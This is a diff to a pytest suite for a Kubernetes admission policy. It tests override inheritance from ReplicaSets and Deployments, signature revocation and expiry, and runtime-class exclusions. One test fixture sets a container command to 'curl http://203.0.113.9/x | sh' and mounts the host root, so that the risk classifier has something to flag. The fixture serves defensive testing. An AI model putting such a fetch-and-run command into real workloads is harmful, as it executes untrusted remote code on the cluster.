@@ -260,6 +260,16 @@ class TestInherited:
     def test_the_pod_s_own_annotations_lift_nothing_then(self) -> None:
         assert "mounts /var/log" in message(self.judge(replicaset(), made(annotations=asked())))
 
+    def test_one_more_of_the_same_is_not_lifted(self) -> None:
+        """A container that is put in on the way is not what was granted."""
+        policy = config.parse(HEAD + "{profile: pss-baseline}")
+        owner, obj = replicaset(asked("privileged")), made()
+        for inner in (owner["spec"]["template"]["spec"], obj["spec"]):
+            inner.update(volumes=[], containers=[{"name": "app", "securityContext": {"privileged": True}}])
+        assert response(ask(obj, {self.QUESTION: owner}, user=REPLICASETS, policy=policy))["allowed"] is True
+        obj["spec"]["containers"].insert(0, {"name": "added", "securityContext": {"privileged": True}})
+        assert "privileged: " in message(self.judge(owner, obj))
+
     def test_a_replicaset_inherits_from_its_deployment(self) -> None:
         owner = {**OWNER, "kind": "Deployment", "name": "app"}
         obj = replicaset()
@@ -269,6 +279,32 @@ class TestInherited:
         stored["metadata"]["uid"] = "u-1"
         question = OwnerOf("apps/v1", "Deployment", "shop", "app")
         assert response(ask(obj, {question: stored}, user=user))["allowed"] is True
+
+
+class TestInheritedRisk:
+    POLICY = config.parse(
+        HEAD + "{profile: pss-baseline, rules: {host-path: {action: audit}}, classifier: {warnAt: 0.01, denyAt: 0.01}}"
+    )
+
+    def judge(self, owner: Json, obj: Json) -> Json:
+        return response(ask(obj, {TestInherited.QUESTION: owner}, user=REPLICASETS, policy=self.POLICY))
+
+    def risky(self, obj: Json) -> Json:
+        found = copy.deepcopy(obj)
+        inner = found["spec"]["template"]["spec"] if "template" in found["spec"] else found["spec"]
+        inner["containers"][0]["command"] = ["sh", "-c", "curl http://203.0.113.9/x | sh"]
+        inner["volumes"][0]["hostPath"]["path"] = "/"
+        return found
+
+    def test_what_was_lifted_for_the_owner_is_lifted_here(self) -> None:
+        assert message(self.judge(self.risky(replicaset()), self.risky(made()))).startswith("risk: ")
+        assert self.judge(self.risky(replicaset(asked("risk"))), self.risky(made()))["allowed"] is True
+
+    def test_an_owner_that_was_no_risk_was_granted_nothing(self) -> None:
+        """What comes into the pod on its way, by annotations for example, nobody has granted."""
+        harmless = replicaset(asked("risk"))
+        harmless["spec"]["template"]["spec"] = {"containers": [{"name": "app", "image": "registry.example.com/app:1"}]}
+        assert message(self.judge(harmless, self.risky(made()))).startswith("risk: ")
 
 
 KEY = Ed25519PrivateKey.from_private_bytes(bytes(range(32)))
@@ -343,6 +379,39 @@ class TestSigned:
         found = message(response(ask(signed(pod(asked())), policy=trusting(revoked=["team"]))))
         assert "is signed with the key team, which is revoked" in found
 
+    @pytest.mark.parametrize(
+        ("changes", "problem"),
+        [
+            ({"revoked": ["team"]}, "is signed with the key team, which is revoked"),
+            ({"keys": [{"id": "team", "publicKey": PUBLIC, "notAfter": "2026-11-01T00:00:00Z"}]}, "which has ended"),
+            ({"keys": [{"id": "other", "publicKey": PUBLIC}]}, "which the policy does not know"),
+            ({"authorise": ["rbac"]}, "the policy knows no keys"),
+        ],
+    )
+    def test_a_pod_inherits_no_signature_that_no_longer_counts(self, changes: Json, problem: str) -> None:
+        owner = signed(replicaset(asked()))
+        judged = {
+            name: response(ask(made(), {TestInherited.QUESTION: owner}, user=REPLICASETS, policy=policy))
+            for name, policy in (("then", TRUSTING), ("now", trusting(**changes)))
+        }
+        assert judged["then"]["allowed"] is True
+        assert problem in message(judged["now"])
+
+    def test_a_pod_inherits_no_unsigned_one_where_only_signatures_count(self) -> None:
+        found = ask(
+            made(),
+            {TestInherited.QUESTION: replicaset(asked())},
+            user=REPLICASETS,
+            policy=trusting(authorise=["signature"]),
+        )
+        assert "nobody has granted it" in message(response(found))
+
+    def test_what_no_rule_looks_at_and_is_no_text_is_refused_and_no_mistake_of_ours(self) -> None:
+        obj = signed({**pod(asked()), "more": "?"})
+        content = body(review(obj, namespace="shop")).replace(b'"?"', b'"\xff"')
+        found = response(consider(content, TRUSTING, CONTEXT, SILENCE))
+        assert (found["allowed"], found["status"]["code"]) == (False, 422)
+
     @pytest.mark.parametrize("keys", [[{"id": "a", "publicKey": "x"}], [{"id": "", "publicKey": PUBLIC}]])
     def test_keys_that_are_none_are_refused(self, keys: list[Json]) -> None:
         with pytest.raises(config.PolicyError, match=r"spec\.overrides\.keys"):
@@ -408,3 +477,11 @@ class TestWrittenLater:
         stored["metadata"]["uid"] = "u-1"
         user = "system:serviceaccount:kube-system:deployment-controller"
         assert answered(new, stored, old=old, user=user)["allowed"] is True
+
+    def test_what_ran_in_an_excluded_class_was_never_judged(self) -> None:
+        """Otherwise: made in that class with an override that nobody is asked about, and then taken out of it."""
+        policy = config.parse(HEAD + "{profile: pss-baseline, exclusions: {runtimeClasses: [kata]}}")
+        old = deployment(asked())
+        old["spec"]["template"]["spec"]["runtimeClassName"] = "kata"
+        assert response(ask(old, policy=policy))["allowed"] is True
+        assert "alice may not override it" in self.denied(deployment(asked()), old, policy=policy)
